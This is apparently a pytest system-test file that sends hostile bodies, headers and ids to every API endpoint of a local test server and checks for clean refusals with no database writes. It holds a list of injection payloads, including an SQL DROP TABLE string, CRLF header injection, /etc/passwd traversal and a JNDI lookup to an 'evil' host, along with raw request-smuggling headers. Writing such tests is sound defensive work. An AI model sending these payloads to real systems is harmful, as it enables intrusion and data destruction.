"""Hostile bodies, headers and ids against every POST of every module: a clear error, no write.

Runs on a server with its own database so "nothing written" is checked on every table.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.harness import Server, fresh_database, start_server, wait_for
from tests.system.apis import (
    REFUSAL,
    app_modules,
    module_of,
    present_modules,
    request_headers,
    row_counts,
)

LIMIT = 16 * 1024


@pytest.fixture(scope="module")
def quiet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Every module on a database nothing else writes to, with a 16 KiB body limit."""
    with fresh_database(str(tmp_path_factory.mktemp("hostile"))) as url:
        srv = start_server(url, modules=present_modules(), max_body_bytes=LIMIT)
        yield srv
        srv.stop()


def posts(server: Server) -> list[tuple[str, str]]:
    """(module, path) of every POST operation in /openapi.json."""
    with server.client() as c:
        spec = c.get("/openapi.json").json()
    modules = app_modules(server)
    out = []
    for path, item in spec["paths"].items():
        if "post" in item:
            module = module_of(modules, path)
            assert module is not None, path
            out.append((module, path))
    assert {m for m, _ in out} >= {m for m in present_modules() if m != "testkit"}
    return out


NESTED = ("[" * 5000 + "]" * 5000).encode()
HOSTILE_BODIES: dict[str, tuple[bytes, str]] = {
    "over the limit": (b'{"x": "' + b"a" * (LIMIT + 10) + b'"}', "application/json"),
    "deeply nested array": (NESTED, "application/json"),
    "deeply nested object": (b'{"a":' * 3000 + b"1" + b"}" * 3000, "application/json"),
    "invalid UTF-8": (b'{"name": "\xff\xfe\xc3\x28"}', "application/json"),
    "truncated JSON": (b'{"name": "abc', "application/json"),
    "NUL bytes": (b'{"name": "a\x00b"}\x00', "application/json"),
    "JSON array": (b"[1, 2, 3]", "application/json"),
    "JSON string": (b'"hello"', "application/json"),
    "JSON null": (b"null", "application/json"),
    "empty body": (b"", "application/json"),
    "huge number": (b'{"n": 1' + b"0" * 5000 + b"}", "application/json"),
    "text/plain": (b'{"name": "x"}', "text/plain"),
    "form data": (b"name=x&id=1", "application/x-www-form-urlencoded"),
    "xml": (b"<a><b>1</b></a>", "application/xml"),
    "multipart": (
        b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--B--\r\n',
        "multipart/form-data; boundary=B",
    ),
    "no content type": (b'{"name": "x"}', ""),
    "bogus charset": (b'{"name": "x"}', "application/json; charset=klingon"),
    "utf-16 body": ('{"name": "x"}'.encode("utf-16"), "application/json"),
}


def _post(c: httpx.Client, path: str, body: bytes, ctype: str, auth: dict[str, str]) -> Any:
    headers = {**auth}
    if ctype:
        headers["content-type"] = ctype
    return c.post(path, content=body, headers=headers)


@pytest.mark.parametrize("kind", sorted(HOSTILE_BODIES))
def test_hostile_bodies_refused_in_envelope_nothing_written(quiet: Server, kind: str) -> None:
    """Each hostile body on each POST: a refusal in the API's envelope, no row anywhere."""
    body, ctype = HOSTILE_BODIES[kind]
    auth = {m: request_headers(quiet, m) for m in present_modules()}
    before = row_counts(quiet)
    problems = []
    with quiet.client() as c:
        for module, path in posts(quiet):
            r = _post(c, path, body, ctype, auth[module])
            if not REFUSAL[module](r):
                problems.append(f"{module} {path}: {r.status_code} {r.text[:200]}")
    assert problems == [], "\n".join(problems)
    assert row_counts(quiet) == before


def test_very_long_ids_refused_in_envelope(quiet: Server) -> None:
    """Ids of 10 KB in query strings and bodies: a clear refusal, never a 500."""
    long_id = "9" * 10_000
    problems = []
    with quiet.client() as c:
        spec = c.get("/openapi.json").json()
        for module, path, method, op in _operations(quiet, spec):
            auth = request_headers(quiet, module)
            params = {p["name"]: long_id for p in op.get("parameters", []) if p["in"] == "query"}
            url = path.replace("{", "").replace("}", "")
            if method == "get":
                r = c.get(url, params=params, headers=auth)
            else:
                props = _body_properties(spec, op)
                body = dict.fromkeys(props, long_id)
                r = c.request(method.upper(), url, params=params, json=body, headers=auth)
            ok = r.status_code < 500 and (r.status_code < 400 or REFUSAL[module](r))
            if not ok:
                problems.append(f"{method.upper()} {path}: {r.status_code} {r.text[:200]}")
    assert problems == [], "\n".join(problems)


def _operations(server: Server, spec: dict[str, Any]) -> Iterator[tuple[str, str, str, Any]]:
    """(module, path, method, operation) of every API operation in the OpenAPI document."""
    modules = app_modules(server)
    for path, item in spec["paths"].items():
        module = module_of(modules, path)
        if module is not None:
            for method, op in item.items():
                yield module, path, method, op


def test_regression_a_trailing_slash_was_an_empty_307_to_the_host_header(quiet: Server) -> None:
    """Each API path with a trailing slash is an unknown path in that API's envelope: it was a
    307 with no body, whose Location was built from the request's Host header."""
    problems = []
    with quiet.client() as c:
        spec = c.get("/openapi.json").json()
        for module, path, method, _ in _operations(quiet, spec):
            if "{" in path:
                continue
            headers = {**request_headers(quiet, module), "host": "attacker.example"}
            r = c.request(method.upper(), f"{path}/", headers=headers, json={})
            if "location" in r.headers or not REFUSAL[module](r):
                problems.append(f"{method.upper()} {path}/: {r.status_code} {r.text[:200]}")
    assert problems == [], "\n".join(problems)


def _body_properties(spec: dict[str, Any], op: dict[str, Any]) -> list[str]:
    content = op.get("requestBody", {}).get("content", {}).get("application/json", {})
    schema = content.get("schema", {})
    ref = schema.get("$ref")
    if ref:
        schema = spec["components"]["schemas"][ref.rsplit("/", 1)[1]]
    return list(schema.get("properties", {}))


INJECTIONS = [
    "'; DROP TABLE jobs; --",
    "1' OR '1'='1",
    '" OR ""="',
    "x\r\nSet-Cookie: injected=1",
    "x\r\n\r\n<script>alert(1)</script>",
    "%0d%0aLocation:%20http://evil",
    "../../../../etc/passwd",
    "${jndi:ldap://evil/a}",
    "\u202e\u0000\ufeff",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_strings_in_every_field_and_param(quiet: Server, value: str) -> None:
    """SQL/header/path injection strings in every field: refused or stored verbatim,
    never executed, never reflected into a response header."""
    problems = []
    with quiet.client() as c:
        spec = c.get("/openapi.json").json()
        modules = app_modules(quiet)
        for path, item in spec["paths"].items():
            module = module_of(modules, path)
            if module is None:
                continue
            auth = request_headers(quiet, module)
            for method, op in item.items():
                params = {p["name"]: value for p in op.get("parameters", []) if p["in"] == "query"}
                body = dict.fromkeys(_body_properties(spec, op), value)
                r = c.request(
                    method.upper(),
                    path.replace("{", "").replace("}", ""),
                    params=params,
                    json=body if method != "get" else None,
                    headers=auth,
                )
                if r.status_code >= 500 or (r.status_code >= 400 and not REFUSAL[module](r)):
                    problems.append(f"{method.upper()} {path}: {r.status_code} {r.text[:200]}")
                if "set-cookie" in r.headers or "injected" in str(r.headers).lower():
                    problems.append(f"{method.upper()} {path}: header injected {r.headers}")
                if r.headers.get("location", "").startswith("http://evil"):
                    problems.append(f"{method.upper()} {path}: redirect injected")
    assert problems == [], "\n".join(problems)
    row_counts(quiet)  # raises if an injected statement had dropped a table


def test_raw_header_injection_and_garbage_do_not_kill_the_server(quiet: Server) -> None:
    """Hand-made requests with CR/LF/NUL in headers: refused by the HTTP layer, server lives."""
    host, port = quiet.url.removeprefix("http://").split(":")
    path = posts(quiet)[0][1]
    requests = [
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        "X-Api-Key: a\x00b\r\nContent-Length: 2\r\n\r\n{}",
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 5\r\n\r\n{{}}",
        f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
        "GARBAGE\r\n\r\n",
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    ]
    for raw in requests:
        with socket.create_connection((host, int(port)), timeout=10) as sock:
            sock.sendall(raw.encode("latin-1"))
            sock.shutdown(socket.SHUT_WR)
            reply = b""
            while chunk := sock.recv(65536):
                reply += chunk
        status = reply.split(b"\r\n", 1)[0]
        assert not status.startswith(b"HTTP/1.1 5"), (raw, reply[:300])
    with quiet.client() as c:
        assert c.get("/healthz").status_code == 200


def test_nul_in_free_text_is_refused_or_stored_verbatim(quiet: Server) -> None:
    """A NUL in a free-text field may be refused, but never accepted and then lost.

    PostgreSQL text cannot hold NUL: an API that answers 202 and then fails the job has
    broken its promise, so the refusal has to come at the door.
    """
    number = "4242"
    name = "nul\u0000inside"
    with quiet.client() as c:
        r = c.post("/one-entities-post-one", json={"entity_number": number, "entity_name": name})
        if REFUSAL["jef_one"](r):
            assert r.status_code == 400
            assert row_counts(quiet)["jef-one-entities"] == 0
            return
        assert r.status_code == 202, r.text
        job_id = r.json()["job_id"]

        def final() -> Any:
            view = c.get("/jef-one-get-job-by-job-id", params={"job_id": job_id}).json()
            return view if view["job_status"] in ("succeeded", "failed") else None

        assert wait_for(final, 60)["job_status"] == "succeeded"
        view = c.get("/jef-one-get-entity-by-entity-number", params={"entity_number": number})
        assert view.json()["entity_name"] == name
